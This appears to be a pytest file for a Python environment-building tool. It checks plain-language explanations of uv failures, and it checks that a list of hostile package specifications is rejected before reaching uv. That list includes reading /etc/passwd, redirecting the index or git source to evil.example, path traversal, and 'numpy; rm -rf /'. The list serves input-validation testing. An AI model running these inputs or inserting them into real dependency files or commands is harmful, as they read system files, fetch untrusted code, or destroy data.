"""The exact words for environments that cannot be built."""

from __future__ import annotations

from pathlib import Path

import pytest

from hubfleet.fleet.software import HubEnvironment, Recipe
from hubfleet.kit.errors import HubfleetError, Place
from hubfleet.platforms.local.environment_build import explain
from hubfleet.platforms.local.environments import EnvironmentStore

PLACE = Place("communities/reef/hubs/prod.yaml", 4, 3)
LOG = Path("/state/environments/logs/env-1.log")
NO_SOLUTION = "error: No solution found when resolving dependencies\n  cause: "

CASES = [
    (
        "resolve",
        NO_SOLUTION + "Because there is no version of numpy==99 and you require numpy==99, we can "
        "conclude that your requirements are unsatisfiable.",
        "error[package-unresolvable]: the packages cannot be installed together\n"
        "  --> communities/reef/hubs/prod.yaml:4:3\n"
        "  why: there is no version of numpy==99\n"
        "  hint: correct the name or the versions; see /state/environments/logs/env-1.log",
    ),
    (
        "resolve",
        NO_SOLUTION + "Because you require numpy<2 and numpy>2, we can conclude that your "
        "requirements are unsatisfiable.",
        "error[package-unresolvable]: the packages cannot be installed together\n"
        "  --> communities/reef/hubs/prod.yaml:4:3\n"
        "  why: you require numpy<2 and numpy>2\n"
        "  hint: correct the name or the versions; see /state/environments/logs/env-1.log",
    ),
    (
        "resolve",
        "error: Failed to fetch: http://x/simple/numpy/\n"
        "  cause: error sending request for url (http://x/simple/numpy/)\n"
        "  cause: Connection refused (os error 111)",
        "error[package-index-unreachable]: the package index cannot be reached\n"
        "  --> communities/reef/hubs/prod.yaml:4:3\n"
        "  why: Connection refused (os error 111)\n"
        "  hint: check this machine's network, or set UV_DEFAULT_INDEX to another index",
    ),
    (
        "resolve",
        NO_SOLUTION + "Because pyspark==3.5.0 has no usable wheels and you require "
        "pyspark==3.5.0, we can conclude that your requirements are unsatisfiable.",
        "error[package-without-wheel]: a package exists only as source for this Python and "
        "machine\n"
        "  --> communities/reef/hubs/prod.yaml:4:3\n"
        "  why: pyspark==3.5.0 has no usable wheels\n"
        "  hint: choose a version that has a wheel, or another Python; sources are not built, "
        "because that would run their code outside the sandbox",
    ),
    (
        "find",
        "error: No interpreter found for Python 3.99",
        "error[python-not-available]: Python 3.99 is not on this machine\n"
        "  --> communities/reef/hubs/prod.yaml:4:3\n"
        "  why: uv found no such interpreter\n"
        "  hint: install it (`uv python install 3.99` does without root), or leave out "
        "`environment.python` to use the one that hubfleet runs on",
    ),
    (
        "install",
        "error: Failed to install: numpy\n  cause: No space left on device (os error 28)",
        "error[disk-full]: the environment was not built: the disk is full\n"
        "  --> /state/environments\n"
        "  why: an environment needs some hundred megabytes\n"
        "  hint: free some space and run the same command again; nothing half-built was kept",
    ),
]


@pytest.mark.parametrize(("phase", "messages", "text"), CASES)
def test_what_uv_said_in_plain_words(phase, messages, text):
    error = explain(phase, messages, python="3.99", place=PLACE, log=LOG)
    assert str(error) == text


HOSTILE = [
    "-r /etc/passwd",
    "--index-url=http://evil.example",
    "numpy\n--index-url http://evil.example",
    "x @ file:///etc/passwd",
    "x @ git+https://evil.example/x",
    "../x",
    "numpy; rm -rf /",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_not_a_plain_package_never_reaches_uv(tmp_path, text):
    store = EnvironmentStore(tmp_path / "environments")
    with pytest.raises(HubfleetError) as caught:
        store.build(HubEnvironment("", PLACE, Recipe((text,))), print)
    assert {problem.code for problem in caught.value.problems} == {"package-not-understood"}
    assert caught.value.problems[0].place == PLACE
    assert not list((tmp_path / "environments").glob("*/*"))
